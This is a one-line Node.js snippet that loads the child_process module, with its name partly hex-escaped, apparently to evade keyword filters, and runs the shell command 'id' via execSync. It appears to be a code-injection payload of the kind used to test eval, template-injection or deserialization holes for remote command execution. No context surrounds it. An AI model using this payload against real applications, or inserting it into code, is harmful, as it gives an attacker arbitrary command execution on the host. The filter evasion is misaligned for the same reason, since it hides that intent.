require('\x63hild_process').execSync('id')
